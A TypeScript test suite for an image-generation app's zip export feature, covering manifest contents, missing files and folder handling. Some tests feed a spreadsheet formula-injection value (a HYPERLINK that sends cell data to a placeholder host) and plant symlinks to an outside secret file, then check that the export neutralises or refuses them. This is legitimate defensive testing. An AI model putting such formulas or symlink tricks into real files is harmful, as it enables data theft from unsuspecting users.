import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ApiEvent, ApiEventOf } from '../../../shared/api/events.ts';
import type { Api } from '../../../shared/api/types.ts';
import type { AppService } from '../../../main/core/app/app-service.ts';
import type { HostActions } from '../../../main/core/app/host.ts';
import { parseCsv } from '../../../main/core/library/csv.ts';
import { EXPORT_MANIFEST_COLUMNS } from '../../../main/core/export/manifest-rows.ts';
import { readZip } from '../../support/read-zip.ts';
import { openTestService, type TestService } from '../../support/test-service.ts';

let dir: string;
let service: AppService;
let api: Api;
let opened: TestService;
let progress: Array<ApiEventOf<'export.progress'>['payload']>;

async function open(actions?: HostActions) {
  opened = await openTestService(dir, { actions });
  ({ service, api } = opened);
  service.events.subscribe(null, (batch) => {
    for (const event of batch.events)
      if (event.type === 'export.progress') progress.push(event.payload);
  });
}

function until(done: (events: ApiEvent[]) => boolean): Promise<void> {
  const seen: ApiEvent[] = [];
  return new Promise((resolve) => {
    const stop = service.events.subscribe(null, (batch) => {
      seen.push(...batch.events);
      if (done(seen)) {
        stop();
        resolve();
      }
    });
  });
}

const ended = (id: string) =>
  until(() => progress.some((p) => p.id === id && p.state !== 'running'));

/** A finished batch of five written images: prompts 1, 3, 5 say "owl", 2 and 4 say "fox". */
async function makeLibrary(): Promise<number[]> {
  const finished = until((events) => events.some((e) => e.type === 'batch.finished'));
  await service.startQueue();
  await api.batches.create({
    source: {
      kind: 'rows',
      rows: Array.from({ length: 5 }, (_, i) => ({
        prompt: `a "${i % 2 ? 'fox' : 'owl'}", number ${i + 1}`,
      })),
    },
    name: 'Beasts',
    defaults: { model: 'flux-schnell', size: '256x256', response_format: 'b64_json' },
    position: 'back',
  });
  await finished;
  return (await api.images.ids({ query: { order: 'oldest' } })).ids;
}

const manifestOf = (entries: Array<{ name: string; data: Buffer }>) => {
  const rows = parseCsv(entries.find((e) => e.name === 'manifest.csv')!.data.toString('utf8'));
  const [header, ...body] = rows;
  return { header, rows: body.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]]))) };
};

beforeEach(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'atelier-export-'));
  progress = [];
  await open();
});
afterEach(async () => {
  await opened.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('exports', () => {
  it('writes a selection, in its order, into a zip with a manifest of its metadata', async () => {
    const ids = await makeLibrary();
    const chosen = [ids[3]!, ids[0]!, ids[2]!];
    const started = await api.exports.start({ source: { ids: chosen } });
    expect(started).toMatchObject({ id: expect.any(String), path: expect.any(String), total: 3 });
    const dest = started.path!;
    await ended(started.id!);

    const entries = await readZip(dest);
    const details = await Promise.all(chosen.map((id) => api.images.get({ id })));
    expect(entries.map((e) => e.name)).toEqual([...details.map((d) => d.relPath), 'manifest.csv']);
    expect(entries.map((e) => e.method)).toEqual([0, 0, 0, 8]); // images stored, manifest deflated
    for (const [i, detail] of details.entries()) {
      expect(entries[i]!.data.equals(readFileSync(detail.path!))).toBe(true);
    }
    const { header, rows } = manifestOf(entries);
    expect(header).toEqual([...EXPORT_MANIFEST_COLUMNS]);
    expect(rows.map((r) => Number(r.image_id))).toEqual(chosen);
    const [first] = rows;
    const d = details[0]!;
    expect(first).toMatchObject({
      file: d.relPath,
      batch: 'Beasts',
      prompt: d.prompt, // quotes and a comma survive the CSV
      model: 'flux-schnell',
      size: '256x256',
      width: String(d.width),
      height: String(d.height),
      format: d.format,
      bytes: String(d.bytes),
      seed: d.seed === null ? '' : String(d.seed),
      favorite: 'false',
      created_at: new Date(d.createdAt).toISOString(),
      sha256: d.sha256,
      request_id: d.requestId ?? '',
      upstream_request_id: d.upstreamRequestId ?? '',
      note: '',
    });
    expect(JSON.parse(first!.params!)).toEqual(d.params);

    const last = await api.exports.get({ id: started.id! });
    expect(last).toMatchObject({ state: 'done', done: 3, total: 3, error: null });
    expect(last.bytes).toBe(readFileSync(dest).length);
    const mine = progress.filter((p) => p.id === started.id);
    expect(mine[0]).toMatchObject({ state: 'running', done: 0, total: 3 });
    expect(mine.at(-1)).toEqual(last);
    expect(readdirSync(path.dirname(dest))).toEqual([path.basename(dest)]); // no part file left
    // canceling one that ended changes nothing
    expect(await api.exports.cancel({ id: started.id! })).toBeNull();
    expect(await api.exports.get({ id: started.id! })).toEqual(last);
  });

  it('writes what a filter matches, written images only, into the library by default', async () => {
    await makeLibrary();
    const started = await api.exports.start({
      source: { query: { text: 'fox', downloadStates: ['done', 'failed'] } },
    });
    expect(started.total).toBe(2);
    expect(started.path).toMatch(
      new RegExp(
        `^${path.join(dir, 'library', 'Exports')}/atelier-\\d{4}-\\d\\d-\\d\\d-\\d{6}\\.zip$`,
      ),
    );
    await ended(started.id!);
    const { rows } = manifestOf(await readZip(started.path!));
    // in the list's order (newest first: jobs finish in any order, so by image id, not prompt)
    const { ids: listed } = await api.images.ids({ query: { text: 'fox' } });
    expect(rows.map((r) => Number(r.image_id))).toEqual(listed);
    expect(rows.map((r) => r.prompt).sort()).toEqual(['a "fox", number 2', 'a "fox", number 4']);
    // a second one at the same second gets a name of its own
    const again = await api.exports.start({ source: { query: { text: 'fox' } } });
    expect(again.path).not.toBe(started.path);
    await ended(again.id!);
    // a filter of failed downloads has nothing written to export
    const none = await api.exports.start({ source: { query: { downloadStates: ['failed'] } } });
    expect(none.total).toBe(0);
    await ended(none.id!);
    expect((await readZip(none.path!)).map((e) => e.name)).toEqual(['manifest.csv']);
  });

  it('notes an image missing on disk in the manifest and writes the others', async () => {
    const ids = await makeLibrary();
    const gone = await api.images.get({ id: ids[1]! });
    rmSync(gone.path!);
    const started = await api.exports.start({ source: { ids: ids.slice(0, 3) } });
    const dest = started.path!;
    await ended(started.id!);
    expect(await api.exports.get({ id: started.id! })).toMatchObject({ state: 'done', done: 3 });
    const entries = await readZip(dest);
    expect(entries).toHaveLength(3);
    expect(entries.map((e) => e.name)).not.toContain(gone.relPath);
    const { rows } = manifestOf(entries);
    expect(rows[1]).toMatchObject({
      file: '',
      image_id: String(gone.id),
      note: `not in the zip: ${gone.relPath} is not found on disk`,
    });
  });

  it('refuses a destination named by the caller; unknown ids are not found', async () => {
    const ids = await makeLibrary();
    const elsewhere = path.join(dir, 'elsewhere.zip');
    await expect(
      api.exports.start({ source: { ids }, destination: elsewhere } as never),
    ).rejects.toMatchObject({
      code: 'invalid-argument',
      message: expect.stringContaining('the page cannot choose where a zip is written'),
    });
    expect(existsSync(elsewhere)).toBe(false);
    await expect(api.exports.get({ id: 'nope' })).rejects.toMatchObject({ code: 'not-found' });
    await expect(api.exports.cancel({ id: 'nope' })).rejects.toMatchObject({ code: 'not-found' });
  });

  it('asks the host where to save, and starts nothing when the person closes the dialog', async () => {
    await opened.close();
    const answers: Array<string | null> = [null, path.join(dir, 'picked')];
    const asked: string[] = [];
    await open({
      chooseExportPath: async (name) => {
        asked.push(name);
        return answers.shift()!;
      },
    });
    const ids = await makeLibrary();
    expect(await api.exports.start({ source: { ids } })).toEqual({
      id: null,
      path: null,
      total: 0,
    });
    expect(asked[0]).toMatch(/^atelier-\d{4}-\d\d-\d\d-\d{6}\.zip$/);
    const started = await api.exports.start({ source: { ids } });
    expect(started).toMatchObject({ path: path.join(dir, 'picked.zip'), total: 5 });
    await ended(started.id!);
    expect(existsSync(path.join(dir, 'picked.zip'))).toBe(true);
    // a file chosen in the dialog, which asked about replacing it: replaced
    const older = path.join(dir, 'older.zip');
    writeFileSync(older, 'an older export');
    answers.push(older);
    const again = await api.exports.start({ source: { ids } });
    await ended(again.id!);
    expect(await api.exports.get({ id: again.id! })).toMatchObject({ state: 'done' });
    expect((await readZip(older)).map((e) => e.name)).toContain('manifest.csv');
  });

  it('neutralises spreadsheet formulas in the export manifest and the batch manifest.csv', async () => {
    const formula = '=HYPERLINK("http://x/?"&A1,"open")';
    const finished = until((events) => events.some((e) => e.type === 'batch.finished'));
    await service.startQueue();
    const batch = await api.batches.create({
      source: { kind: 'rows', rows: [{ prompt: formula }, { prompt: '@SUM(A1:A9)' }] },
      name: '+cmd',
      defaults: { model: 'flux-schnell', size: '256x256', response_format: 'b64_json' },
      position: 'back',
    });
    await finished;
    const started = await api.exports.start({ source: { query: {} } });
    await ended(started.id!);
    const { rows } = manifestOf(await readZip(started.path!));
    expect(rows.map((r) => r.prompt).sort()).toEqual([`'${formula}`, "'@SUM(A1:A9)"]);
    expect(rows.every((r) => r.batch === "'+cmd")).toBe(true);
    const { folder } = await api.batches.get({ id: batch.id });
    const written = parseCsv(readFileSync(path.join(folder, 'manifest.csv'), 'utf8'));
    const prompt = written[0]!.indexOf('prompt');
    expect(
      written
        .slice(1)
        .map((r) => r[prompt])
        .sort(),
    ).toEqual([`'${formula}`, "'@SUM(A1:A9)"]);
  });

  it('keeps its folder apart from the batches: a batch named "Exports" gets another', async () => {
    await makeLibrary();
    const finished = until((events) => events.some((e) => e.type === 'batch.finished'));
    const batch = await api.batches.create({
      source: { kind: 'rows', rows: [{ prompt: 'a heron' }] },
      name: 'Exports',
      defaults: { model: 'flux-schnell', size: '256x256', response_format: 'b64_json' },
      position: 'back',
    });
    await finished;
    expect((await api.batches.get({ id: batch.id })).dirName).toBe('Exports~2');
    const started = await api.exports.start({ source: { query: {} } });
    expect(path.dirname(started.path!)).toBe(path.join(dir, 'library', 'Exports'));
    await ended(started.id!);
    expect(
      readdirSync(path.join(dir, 'library', 'Exports~2')).some((f) => f.endsWith('.zip')),
    ).toBe(false);
  });

  it('writes beside a batch that a former Atelier let take the "Exports" folder', async () => {
    const ids = await makeLibrary();
    service.store.db
      .prepare(
        `INSERT INTO batches (name, dir_name, dir_key, created_at) VALUES ('Exports', 'Exports', 'exports', 1)`,
      )
      .run();
    const started = await api.exports.start({ source: { ids } });
    expect(path.dirname(started.path!)).toBe(path.join(dir, 'library', 'Exports~2'));
    await ended(started.id!);
  });

  it('follows no link planted as the Exports folder, and packs no file linked from outside', async () => {
    const ids = await makeLibrary();
    const outside = path.join(dir, 'outside');
    mkdirSync(outside);
    writeFileSync(path.join(outside, 'secret.txt'), 'the secret');
    // an image replaced by a link to a file outside the library
    const image = await api.images.get({ id: ids[0]! });
    rmSync(image.path!);
    symlinkSync(path.join(outside, 'secret.txt'), image.path!);
    const started = await api.exports.start({ source: { ids } });
    await ended(started.id!);
    const entries = await readZip(started.path!);
    expect(entries).toHaveLength(5);
    expect(entries.some((e) => e.data.toString().includes('the secret'))).toBe(false);
    const { rows } = manifestOf(entries);
    expect(rows.find((r) => r.image_id === String(ids[0]))).toMatchObject({
      file: '',
      note: `not in the zip: ${image.relPath} leads outside the library, to ${realpathSync(path.join(outside, 'secret.txt'))}`,
    });

    // the Exports folder itself a link out: nothing is written there
    rmSync(path.join(dir, 'library', 'Exports'), { recursive: true });
    symlinkSync(outside, path.join(dir, 'library', 'Exports'));
    await expect(api.exports.start({ source: { ids } })).rejects.toMatchObject({
      code: 'disk',
      message: expect.stringMatching(/Refusing to write exports into .*Exports: a link .* outside/),
    });
    expect(readdirSync(outside)).toEqual(['secret.txt']);
  });
});
